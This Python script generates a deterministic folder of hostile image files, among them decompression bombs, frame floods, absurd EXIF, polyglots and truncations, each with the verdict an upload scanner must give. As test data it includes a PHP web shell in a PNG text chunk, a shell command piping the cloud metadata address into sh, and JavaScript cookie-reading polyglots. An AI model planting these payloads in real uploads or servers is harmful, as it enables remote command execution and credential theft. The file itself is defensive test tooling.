#!/usr/bin/env python
"""Write a folder of hostile files: what an attacker (or a broken phone) uploads.

Every file comes with what a scan must make of it, in ``manifest.json``:

- ``must_refuse`` files may never be allowed, and their verdict must carry one of
  the listed reason codes (a decompression bomb is ``decompression_bomb``, a file cut
  in half is ``unreadable``, ...);
- ``may_allow`` files are damaged but possibly still readable (a flipped bit in the
  entropy-coded data of a JPEG still decodes): a scan may allow one only if it could
  really read it - the tests check that ``decode`` succeeds on every allowed file.

The files have real structure, so they reach deep into the decoders rather than
bouncing off the magic-byte check: valid headers declaring huge sizes (PNG IHDR,
GIF logical screen, JPEG SOF, TIFF tags, WebP VP8X canvas, BMP), animations with
thousands of frames (GIF, APNG, WebP) or lying frame counts, EXIF with absurd
orientations, entry counts and loops, polyglots (JPEG+ZIP, GIF+JS, PNG+PHP),
truncations and bit flips of real photos in every supported format, and seeded
random mutations. The output is the same for the same seed.

    python scripts/make_hostile.py /tmp/hostile              # the default set
    python scripts/make_hostile.py /tmp/hostile --seed 7 --fuzz 200

The tests import :func:`build` (tests/test_hostile.py), the fault drill plants some
of these among clean uploads (scripts/drill_faults.py).
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path

from PIL import Image

REPO = Path(__file__).resolve().parent.parent
DEFAULT_PHOTOS = REPO / "examples" / "photos"
#: Real photos the mutations start from (in examples/photos, so no test extra is needed).
BASE_PHOTOS = ("astronaut.jpg", "chelsea.jpg", "coffee.jpg", "rocket.jpg")
DEFAULT_SEED = 20261122
#: Side of the re-encoded base images: small keeps the corpus fast, big enough to hash.
BASE_SIDE = 96

UNREADABLE = "unreadable"
BOMB = "decompression_bomb"
FRAMES = "too_many_frames"
NOT_IMAGE = "not_an_image"
UNSUPPORTED = "unsupported_format"
EMPTY = "empty_file"
TOO_MANY_PIXELS = "too_many_pixels"
TRAILING = "trailing_data"
TRAILING_UNSCANNED = "trailing_unscanned"
#: Codes a damaged-but-maybe-readable file may end with when it is not allowed (a
#: mutation can leave bytes after the image's end: trailing data, quarantined).
DAMAGED = (UNREADABLE, BOMB, FRAMES, NOT_IMAGE, UNSUPPORTED, EMPTY, TOO_MANY_PIXELS, TRAILING, TRAILING_UNSCANNED)


@dataclass(frozen=True)
class Hostile:
    """One hostile file and what a scan must make of it."""

    name: str
    category: str
    data: bytes
    #: False: the verdict must not be allow. True: allow only if really readable.
    may_allow: bool
    #: Reason codes the verdict may carry (one of them must appear when not allowed).
    codes: tuple[str, ...]
    note: str

    def manifest(self) -> dict[str, object]:
        entry = asdict(self)
        del entry["data"]
        entry["size"] = len(self.data)
        entry["sha256"] = hashlib.sha256(self.data).hexdigest()
        return entry


# -- byte-level builders ------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


PNG_SIG = b"\x89PNG\r\n\x1a\n"


def png_grey(width: int, height: int, *, idat: bytes | None = None) -> bytes:
    """A greyscale PNG of ``width x height``; its IDAT is zeros unless given."""
    if idat is None:
        raw = zlib.compressobj(9)
        row = b"\x00" * (width + 1)
        parts = [raw.compress(row) for _ in range(height)]
        idat = b"".join(parts) + raw.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return PNG_SIG + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def apng(frames: int, *, declared: int | None = None) -> bytes:
    """An animated PNG of 1x1 frames; acTL may declare a different frame count."""
    seq = 0
    out = [PNG_SIG, png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
           png_chunk(b"acTL", struct.pack(">II", declared if declared is not None else frames, 0))]
    for i in range(frames):
        fctl = struct.pack(">IIIIIHHBB", seq, 1, 1, 0, 0, 1, 100, 0, 0)
        out.append(png_chunk(b"fcTL", fctl))
        seq += 1
        pixels = zlib.compress(bytes([0, i % 256]))
        if i == 0:
            out.append(png_chunk(b"IDAT", pixels))
        else:
            out.append(png_chunk(b"fdAT", struct.pack(">I", seq) + pixels))
            seq += 1
    out.append(png_chunk(b"IEND", b""))
    return b"".join(out)


def gif(width: int, height: int, frames: int = 1, *, frame_size: tuple[int, int] = (1, 1), trailer: bytes = b";") -> bytes:
    """A GIF with a ``width x height`` screen and ``frames`` small frames (two-colour palette)."""
    header = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    fw, fh = frame_size
    body = []
    for i in range(frames):
        gce = b"\x21\xf9\x04\x00" + struct.pack("<H", 1) + b"\x00\x00"
        desc = b"," + struct.pack("<HHHHB", i % max(1, width - fw + 1) if width > fw else 0, 0, fw, fh, 0)
        body.append(gce + desc + b"\x02\x02\x44\x01\x00")
    return header + b"".join(body) + trailer


def bmp_header(width: int, height: int) -> bytes:
    """A BMP whose info header declares ``width x height`` 24-bit pixels, with no pixel data."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(info), 0, 0, 14 + len(info)) + info


def tiff(entries: list[tuple[int, int, int, bytes | int]], *, extra: bytes = b"", next_ifd: int = 0,
         ifd_offset: int = 8, count_override: int | None = None) -> bytes:
    """A little-endian TIFF with one IFD of (tag, type, count, value) entries.

    A value that is an int is stored inline (SHORT/LONG); bytes go into ``extra``,
    placed right after the IFD, and the entry points at them.
    """
    n = len(entries)
    ifd_size = 2 + 12 * n + 4
    data_at = ifd_offset + ifd_size
    inline, blobs = [], b""
    for tag, typ, count, value in entries:
        if isinstance(value, int):
            field = struct.pack("<H", value) + b"\x00\x00" if typ == 3 else struct.pack("<I", value)
        else:
            field = struct.pack("<I", data_at + len(blobs))
            blobs += value + (b"\x00" if len(value) % 2 else b"")
        inline.append(struct.pack("<HHI", tag, typ, count) + field)
    head = b"II*\x00" + struct.pack("<I", ifd_offset) + b"\x00" * (ifd_offset - 8)
    ifd = struct.pack("<H", count_override if count_override is not None else n) + b"".join(inline)
    return head + ifd + struct.pack("<I", next_ifd) + blobs + extra


SHORT, LONG = 3, 4


def tiff_grey(width: int, height: int, *, strip_offset: int | None = None, strip_bytes: int | None = None,
              compression: int = 1, pixels: bytes = b"", next_ifd: int = 0) -> bytes:
    """An 8-bit greyscale TIFF, one strip; offsets and byte counts may lie."""
    entries: list[tuple[int, int, int, bytes | int]] = [
        (256, LONG, 1, width), (257, LONG, 1, height), (258, SHORT, 1, 8), (259, SHORT, 1, compression),
        (262, SHORT, 1, 1), (273, LONG, 1, 0), (277, SHORT, 1, 1), (278, LONG, 1, height),
        (279, LONG, 1, strip_bytes if strip_bytes is not None else len(pixels)),
    ]
    ifd_end = 8 + 2 + 12 * len(entries) + 4
    entries[5] = (273, LONG, 1, strip_offset if strip_offset is not None else ifd_end)
    return tiff(entries, extra=pixels, next_ifd=next_ifd)


def tiff_pages(pages: int) -> bytes:
    """A TIFF with ``pages`` 1x1 pages chained by next-IFD offsets."""
    out = bytearray(b"II*\x00" + struct.pack("<I", 8))
    for i in range(pages):
        entries = [(256, LONG, 1, 1), (257, LONG, 1, 1), (258, SHORT, 1, 8), (259, SHORT, 1, 1),
                   (262, SHORT, 1, 1), (273, LONG, 1, 0), (277, SHORT, 1, 1), (278, LONG, 1, 1), (279, LONG, 1, 1)]
        start = len(out)
        ifd_size = 2 + 12 * len(entries) + 4
        pixel_at = start + ifd_size
        next_at = pixel_at + 2 if i + 1 < pages else 0
        entries[5] = (273, LONG, 1, pixel_at)
        out += struct.pack("<H", len(entries))
        for tag, typ, count, value in entries:
            field = struct.pack("<H", value) + b"\x00\x00" if typ == SHORT else struct.pack("<I", value)
            out += struct.pack("<HHI", tag, typ, count) + field
        out += struct.pack("<I", next_at) + bytes([i % 256, 0])
    return bytes(out)


def riff(*chunks: bytes) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_chunk(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")


def webp_chunks(data: bytes) -> dict[bytes, bytes]:
    """The top-level chunks of a simple WebP file."""
    out, pos = {}, 12
    while pos + 8 <= len(data):
        kind, size = data[pos:pos + 4], struct.unpack("<I", data[pos + 4:pos + 8])[0]
        out[kind] = data[pos + 8:pos + 8 + size]
        pos += 8 + size + (size & 1)
    return out


def vp8x(width: int, height: int, flags: int = 0) -> bytes:
    return webp_chunk(b"VP8X", bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little")
                      + (height - 1).to_bytes(3, "little"))


def jpeg_with_size(jpeg: bytes, width: int, height: int) -> bytes:
    """``jpeg`` with its SOF marker rewritten to declare ``width x height``."""
    pos = 2
    out = bytearray(jpeg)
    while pos + 4 <= len(out):
        if out[pos] != 0xFF:
            break
        marker = out[pos + 1]
        length = struct.unpack(">H", out[pos + 2:pos + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            out[pos + 5:pos + 9] = struct.pack(">HH", height, width)
            return bytes(out)
        pos += 2 + length
    raise ValueError("no SOF marker found")


def exif_segment(tiff_body: bytes) -> bytes:
    payload = b"Exif\x00\x00" + tiff_body
    return b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload


def with_app1(jpeg: bytes, segment: bytes) -> bytes:
    """Insert an APP1 segment right after SOI."""
    return jpeg[:2] + segment + jpeg[2:]


def exif_ifd(entries: list[tuple[int, int, int, bytes]], *, next_ifd: int = 0, count_override: int | None = None,
             big_endian: bool = False) -> bytes:
    """A TIFF header and IFD0 for an EXIF block; entry values are 4 raw bytes."""
    e = ">" if big_endian else "<"
    head = (b"MM\x00*" if big_endian else b"II*\x00") + struct.pack(e + "I", 8)
    body = struct.pack(e + "H", count_override if count_override is not None else len(entries))
    for tag, typ, count, value in entries:
        body += struct.pack(e + "HHI", tag, typ, count) + value[:4].ljust(4, b"\x00")
    return head + body + struct.pack(e + "I", next_ifd)


# -- the set --------------------------------------------------------------------------------


def _encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format=fmt, **params)
    return buf.getvalue()


def base_images(photos: Path) -> dict[str, Image.Image]:
    out = {}
    for name in BASE_PHOTOS:
        with Image.open(photos / name) as img:
            img.load()
            small = img.convert("RGB")
            small.thumbnail((BASE_SIDE, BASE_SIDE), Image.Resampling.LANCZOS)
            out[Path(name).stem] = small
    return out


def encoded_bases(images: dict[str, Image.Image]) -> dict[str, bytes]:
    """One real photo per supported format (``<format>-<photo>``)."""
    names = list(images)
    return {
        f"jpeg-{names[0]}": _encode(images[names[0]], "JPEG", quality=85),
        f"png-{names[1]}": _encode(images[names[1]], "PNG"),
        f"gif-{names[2]}": _encode(images[names[2]].convert("P", palette=Image.Palette.ADAPTIVE), "GIF"),
        f"webp-{names[3]}": _encode(images[names[3]], "WEBP", quality=80),
        f"tiff-{names[0]}": _encode(images[names[0]], "TIFF", compression="tiff_lzw"),
        f"jpeg-progressive-{names[1]}": _encode(images[names[1]], "JPEG", quality=85, progressive=True),
    }


def _ext(base: str) -> str:
    return {"jpeg": "jpg", "png": "png", "gif": "gif", "webp": "webp", "tiff": "tif"}[base.split("-")[0]]


def structural(images: dict[str, Image.Image], bases: dict[str, bytes]) -> Iterator[Hostile]:
    """Handcrafted files: bombs, frame floods, absurd EXIF, polyglots, non-images."""
    jpeg = bases[next(k for k in bases if k.startswith("jpeg-") and "progressive" not in k)]
    photo = next(iter(images.values()))

    # Empty and non-image files.
    yield Hostile("empty.jpg", "empty", b"", False, (EMPTY,), "zero bytes")
    yield Hostile("text.jpg", "non_image", b"holiday photos coming soon\n" * 10, False, (NOT_IMAGE,), "plain text")
    yield Hostile("nul-bytes.png", "non_image", b"\x00" * 65536, False, (NOT_IMAGE,), "64 KiB of NUL bytes")
    yield Hostile("elf.gif", "non_image", b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"\x3e\x00" * 32, False,
                  (NOT_IMAGE,), "an ELF executable header")
    yield Hostile("script.webp", "non_image", b"#!/bin/sh\ncurl http://169.254.169.254/ | sh\n", False, (NOT_IMAGE,),
                  "a shell script")
    yield Hostile("utf16.jpg", "non_image", "\ufeffnot a photo".encode("utf-16"), False, (NOT_IMAGE,),
                  "UTF-16 text with a BOM")
    yield Hostile("vector.png", "non_image", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', False,
                  (UNSUPPORTED,), "SVG with script")
    yield Hostile("phone.jpg", "non_image", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64,
                  False, (UNREADABLE, UNSUPPORTED), "HEIC header with no image behind it")
    yield Hostile("doc.jpg", "non_image", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n", False, (UNSUPPORTED,),
                  "a PDF")
    zip_buf = io.BytesIO()
    with zipfile.ZipFile(zip_buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("photo.jpg", date_time=(2026, 11, 22, 0, 0, 0)), jpeg)  # no clock: same bytes
    yield Hostile("archive.jpg", "non_image", zip_buf.getvalue(), False, (NOT_IMAGE,), "a ZIP holding a JPEG")

    # Decompression bombs: valid headers, huge declared sizes, tiny files.
    yield Hostile("png-ihdr-100000x100000.png", "bomb", png_grey(100_000, 100_000, idat=zlib.compress(b"\x00" * 1024)),
                  False, (BOMB,), "IHDR declares 10 gigapixels")
    yield Hostile("png-ihdr-max.png", "bomb", png_grey(0x7FFFFFFF, 0x7FFFFFFF, idat=zlib.compress(b"\x00")), False,
                  (BOMB, UNREADABLE), "IHDR declares 2^31-1 squared")
    yield Hostile("png-zeros-20000x20000.png", "bomb",
                  png_grey(20_000, 20_000, idat=zlib.compress(b"\x00" * 2_000_000, 9)), False, (BOMB,),
                  "400 MP of zeros: the IDAT would inflate to 400 MB")
    yield Hostile("gif-screen-65535.gif", "bomb", gif(65535, 65535, frame_size=(65535, 65535)), False, (BOMB,),
                  "logical screen and frame 65535x65535")
    yield Hostile("gif-screen-huge-frame-small.gif", "bomb", gif(65535, 65535), False, (BOMB,),
                  "logical screen 65535x65535, one 1x1 frame")
    yield Hostile("jpeg-sof-65500.jpg", "bomb", jpeg_with_size(jpeg, 65500, 65500), False, (BOMB,),
                  "SOF declares 65500x65500")
    yield Hostile("jpeg-sof-0x0.jpg", "bomb", jpeg_with_size(jpeg, 0, 0), False, (UNREADABLE, BOMB),
                  "SOF declares 0x0")
    yield Hostile("bmp-30000x30000.bmp", "bomb", bmp_header(30_000, 30_000), False, (BOMB,),
                  "BMP info header declares 900 MP")
    yield Hostile("tiff-60000x60000.tif", "bomb", tiff_grey(60_000, 60_000, pixels=b"\x00" * 16), False, (BOMB,),
                  "TIFF tags declare 3.6 gigapixels")
    yield Hostile("tiff-strip-2gb.tif", "bomb", tiff_grey(64, 64, strip_bytes=0x7FFFFFFF, pixels=b"\x00" * 64),
                  False, (UNREADABLE,), "StripByteCounts says 2 GiB in a 200-byte file")
    yield Hostile("tiff-lzw-strip-4gb.tif", "bomb",
                  tiff_grey(64, 64, compression=5, strip_bytes=0xFFFFFFFF, pixels=b"\x80" * 64), False,
                  (UNREADABLE,), "LZW strip claims 4 GiB")
    yield Hostile("tiff-strip-offset-past-eof.tif", "bomb", tiff_grey(64, 64, strip_offset=0x7FFFFFF0,
                                                                      strip_bytes=4096), False, (UNREADABLE,),
                  "strip offset 2 GiB into a tiny file")
    yield Hostile("tiff-ifd-65535-entries.tif", "bomb", tiff([(256, LONG, 1, 8)], count_override=65535), False,
                  (UNREADABLE,), "IFD claims 65535 entries")
    yield Hostile("tiff-ifd-loop.tif", "bomb", tiff_grey(8, 8, pixels=b"\x00" * 64, next_ifd=8), True, DAMAGED,
                  "next-IFD offset points back at itself (an endless page chain if followed)")
    tiny = webp_chunks(_encode(Image.new("RGB", (1, 1), (200, 10, 10)), "WEBP", lossless=True))
    yield Hostile("webp-vp8x-16384.webp", "bomb", riff(vp8x(16384, 16384), webp_chunk(b"VP8L", tiny[b"VP8L"])),
                  False, (BOMB, UNREADABLE), "VP8X canvas 16384x16384 around a 1x1 image")
    anmf = (struct.pack("<I", 0)[:3] * 2 + (0).to_bytes(3, "little") * 2 + (100).to_bytes(3, "little") + b"\x00"
            + webp_chunk(b"VP8L", tiny[b"VP8L"]))
    yield Hostile("webp-anim-canvas-16777216.webp", "bomb",
                  riff(vp8x(1 << 24, 1 << 24, flags=0x02), webp_chunk(b"ANIM", b"\x00" * 6),
                       webp_chunk(b"ANMF", anmf)), False, (BOMB, UNREADABLE),
                  "animated VP8X canvas 2^24 x 2^24 (the format's maximum)")

    # Frame floods.
    yield Hostile("gif-100000-frames.gif", "animated", gif(2, 2, 100_000), False, (FRAMES,),
                  "100,000 1x1 frames in 2.3 MB")
    yield Hostile("gif-5000-frames.gif", "animated", gif(64, 64, 5000), False, (FRAMES,), "5,000 frames")
    yield Hostile("apng-5000-frames.png", "animated", apng(5000), False, (FRAMES,), "APNG with 5,000 frames")
    yield Hostile("apng-actl-lies.png", "animated", apng(2, declared=2_000_000_000), False, (FRAMES, UNREADABLE),
                  "acTL declares 2 billion frames, file has 2")
    frames = [Image.new("RGB", (4, 4), ((i * 7) % 256, (i * 13) % 256, (i * 29) % 256)) for i in range(1500)]
    yield Hostile("webp-1500-frames.webp", "animated",
                  _encode(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=10, lossless=True),
                  False, (FRAMES,), "animated WebP with 1,500 frames")
    yield Hostile("tiff-3000-pages.tif", "animated", tiff_pages(3000), False, (FRAMES,), "TIFF with 3,000 pages")
    yield Hostile("gif-pixel-budget.gif", "animated", gif(7000, 7000, 900), False, (FRAMES,),
                  "900 1x1 frames on a 49 MP screen: past the total pixel budget")

    # Absurd EXIF inside an otherwise fine JPEG: readable, so it may be allowed.
    def short(v: int) -> bytes:
        return struct.pack("<H", v)

    exifs = {
        "exif-orientation-9.jpg": exif_ifd([(0x0112, 3, 1, short(9))]),
        "exif-orientation-65535.jpg": exif_ifd([(0x0112, 3, 1, short(65535))]),
        "exif-orientation-as-text.jpg": exif_ifd([(0x0112, 2, 4, b"six\x00")]),
        "exif-orientation-1000-longs.jpg": exif_ifd([(0x0112, 4, 1000, struct.pack("<I", 26))]),
        "exif-65535-entries.jpg": exif_ifd([(0x0112, 3, 1, short(6))], count_override=65535),
        "exif-ifd0-loop.jpg": exif_ifd([(0x0112, 3, 1, short(6))], next_ifd=8),
        "exif-subifd-loop.jpg": exif_ifd([(0x8769, 4, 1, struct.pack("<I", 8)), (0x8825, 4, 1, struct.pack("<I", 8))]),
        "exif-offset-past-end.jpg": exif_ifd([(0x010F, 2, 0x7FFFFFFF, struct.pack("<I", 0x7FFFFFF0))]),
        "exif-bad-byte-order.jpg": b"XX*\x00" + b"\xff" * 60,
        "exif-big-endian-huge-count.jpg": exif_ifd([(0x0112, 3, 0xFFFFFFFF, b"\x00\x06")], big_endian=True),
    }
    for name, body in exifs.items():
        yield Hostile(name, "exif", with_app1(jpeg, exif_segment(body)), True, DAMAGED, "absurd EXIF in a real JPEG")
    filler = exif_ifd([(0x010E, 2, 60000, struct.pack("<I", 26))]) + b"A" * 60000
    yield Hostile("exif-64k-description.jpg", "exif", with_app1(jpeg, exif_segment(filler)), True, DAMAGED,
                  "APP1 at the 64 KiB limit")

    # Polyglots.
    yield Hostile("polyglot-jpeg-zip.jpg", "polyglot", jpeg + zip_buf.getvalue(), False, (TRAILING,),
                  "a real JPEG with a ZIP appended (opens as both)")
    js = b"*/=1;alert(document.domain);//"
    yield Hostile("polyglot-gif-js.gif", "polyglot", gif(0x2A2F, 10, trailer=b";") + js, False, (TRAILING,),
                  "GIF whose screen width bytes open a JS comment; JS after the trailer")
    php = png_chunk(b"tEXt", b"Comment\x00<?php system($_GET['c']); ?>")
    png_bytes = _encode(photo, "PNG")
    yield Hostile("polyglot-png-php.png", "polyglot", png_bytes[:33] + php + png_bytes[33:], True, DAMAGED,
                  "a real PNG with PHP in a tEXt chunk")
    yield Hostile("polyglot-jpeg-magic-html.jpg", "polyglot", b"\xff\xd8\xff\xe0<html><script>alert(1)</script>",
                  False, (UNREADABLE,), "JPEG magic bytes, then HTML")
    yield Hostile("polyglot-gif-magic-js.gif", "polyglot", b"GIF89a=1;alert(document.cookie);", False,
                  (UNREADABLE,), "GIF magic bytes, then JavaScript")

    # Odd but legal shapes.
    yield Hostile("png-1x100000.png", "shape", png_grey(1, 100_000), True, DAMAGED, "one pixel wide")
    yield Hostile("png-100000x1.png", "shape", png_grey(100_000, 1), True, DAMAGED, "one pixel tall")
    yield Hostile("png-1x1.png", "shape", png_grey(1, 1), True, DAMAGED, "a single pixel")


def large_but_legal() -> Hostile:
    """A 49 MP all-black PNG of 48 KB: under every limit, so it is fully decoded (the slowest legal file)."""
    return Hostile("png-49mp-zeros.png", "shape", png_grey(7000, 7000), True, DAMAGED,
                   "7000x7000 zeros: just under the pixel limit")


def slow_but_legal() -> Hostile:
    """A 49 MP half-transparent RGBA PNG of about 200 KB: under every limit, fully decoded
    and composited onto white, several seconds on one core (the grey one above now
    decodes and hashes in about a second, too close to a one-second job timeout)."""
    width = height = 7000
    raw = zlib.compressobj(9)
    row = b"\x00" + bytes((10, 20, 30, 128)) * width
    idat = b"".join(raw.compress(row) for _ in range(height)) + raw.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    data = PNG_SIG + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    return Hostile("png-49mp-rgba.png", "shape", data, True, DAMAGED, "7000x7000 half-transparent: composited whole")


def truncations(bases: dict[str, bytes]) -> Iterator[Hostile]:
    for base, data in bases.items():
        for cut in (8, 33, len(data) // 10, len(data) // 2):
            yield Hostile(f"trunc-{base}-{cut}.{_ext(base)}", "truncated", data[:cut], False, (UNREADABLE, NOT_IMAGE),
                          f"first {cut} of {len(data)} bytes")
        for cut in (len(data) * 9 // 10, len(data) - 1):
            yield Hostile(f"trunc-{base}-{cut}.{_ext(base)}", "truncated", data[:cut], True, DAMAGED,
                          f"first {cut} of {len(data)} bytes (the tail is missing)")


def flip_bits(data: bytes, rng: random.Random, count: int, *, start: int = 0) -> bytes:
    out = bytearray(data)
    for _ in range(count):
        pos = rng.randrange(min(start, len(out) - 1), len(out))
        out[pos] ^= 1 << rng.randrange(8)
    return bytes(out)


def bit_flips(bases: dict[str, bytes], rng: random.Random) -> Iterator[Hostile]:
    for base, data in bases.items():
        for count in (1, 8, 64):
            yield Hostile(f"flip-{base}-{count}.{_ext(base)}", "bitflip", flip_bits(data, rng, count, start=64), True,
                          DAMAGED, f"{count} random bits flipped past the first 64 bytes")
        yield Hostile(f"flip-{base}-header.{_ext(base)}", "bitflip", flip_bits(data[:64], rng, 4) + data[64:], True,
                      DAMAGED, "4 bits flipped in the first 64 bytes")


Mutation = Callable[[bytearray, random.Random], None]


def _overwrite(b: bytearray, rng: random.Random) -> None:
    pos = rng.randrange(len(b))
    for i in range(pos, min(len(b), pos + rng.randint(1, 16))):
        b[i] = rng.randrange(256)


def _insert(b: bytearray, rng: random.Random) -> None:
    pos = rng.randrange(len(b) + 1)
    b[pos:pos] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))


def _delete(b: bytearray, rng: random.Random) -> None:
    pos = rng.randrange(len(b))
    del b[pos:pos + rng.randint(1, 256)]


def _duplicate(b: bytearray, rng: random.Random) -> None:
    pos = rng.randrange(len(b))
    chunk = b[pos:pos + rng.randint(1, 512)]
    at = rng.randrange(len(b) + 1)
    b[at:at] = chunk


def _big_integer(b: bytearray, rng: random.Random) -> None:
    # Lengths, counts and dimensions are 2- and 4-byte integers: make one absurd.
    if len(b) < 4:
        return
    pos = rng.randrange(len(b) - 3)
    value = rng.choice([b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\x00\x00\x00\x00", b"\xff\xff", b"\x80\x00"])
    b[pos:pos + len(value)] = value


MUTATIONS: tuple[Mutation, ...] = (_overwrite, _insert, _delete, _duplicate, _big_integer)


def mutate(data: bytes, rng: random.Random, rounds: int) -> bytes:
    """``data`` after ``rounds`` random mutations (never empty)."""
    out = bytearray(data)
    for _ in range(rounds):
        if not out:
            out = bytearray(b"\x00")
        rng.choice(MUTATIONS)(out, rng)
    return bytes(out) or b"\x00"


def fuzzed(bases: dict[str, bytes], rng: random.Random, count: int) -> Iterator[Hostile]:
    names = sorted(bases)
    for i in range(count):
        base = rng.choice(names)
        rounds = rng.randint(1, 4)
        yield Hostile(f"fuzz-{i:04d}-{base}.{_ext(base)}", "fuzz", mutate(bases[base], rng, rounds), True, DAMAGED,
                      f"{rounds} random mutations of {base}")


def build(seed: int = DEFAULT_SEED, *, fuzz: int = 24, photos: Path = DEFAULT_PHOTOS,
          include_large: bool = True) -> list[Hostile]:
    """Every hostile file, in a stable order; the same ``seed`` gives the same bytes.

    ``include_large`` adds the 49 MP legal PNG (about a second to scan, 150 MB decoded).
    """
    rng = random.Random(seed)
    images = base_images(photos)
    bases = encoded_bases(images)
    files = [*structural(images, bases), *truncations(bases), *bit_flips(bases, rng), *fuzzed(bases, rng, fuzz)]
    if include_large:
        files.append(large_but_legal())
    names = [f.name for f in files]
    if len(set(names)) != len(names):
        raise AssertionError("duplicate hostile file names")
    return files


def write(folder: Path, files: list[Hostile]) -> Path:
    """Write ``files`` and ``manifest.json`` into ``folder``; returns the manifest path."""
    folder.mkdir(parents=True, exist_ok=True)
    for f in files:
        (folder / f.name).write_bytes(f.data)
    manifest = folder / "manifest.json"
    manifest.write_text(json.dumps([f.manifest() for f in files], indent=1) + "\n", "utf-8")
    return manifest


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     epilog="Example: python scripts/make_hostile.py /tmp/hostile --fuzz 200")
    parser.add_argument("folder", type=Path, help="Where to write the files and manifest.json.")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED, help=f"Random seed (default {DEFAULT_SEED}).")
    parser.add_argument("--fuzz", type=int, default=24, help="Number of randomly mutated photos (default 24).")
    parser.add_argument("--photos", type=Path, default=DEFAULT_PHOTOS,
                        help="Folder holding the base photos (default examples/photos).")
    parser.add_argument("--no-large", action="store_true", help="Leave out the 49 MP legal PNG.")
    args = parser.parse_args(argv)
    files = build(args.seed, fuzz=args.fuzz, photos=args.photos, include_large=not args.no_large)
    manifest = write(args.folder, files)
    refuse = sum(not f.may_allow for f in files)
    print(f"wrote {len(files)} files ({refuse} must be refused, {len(files) - refuse} may be allowed only if"
          f" readable) and {manifest}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
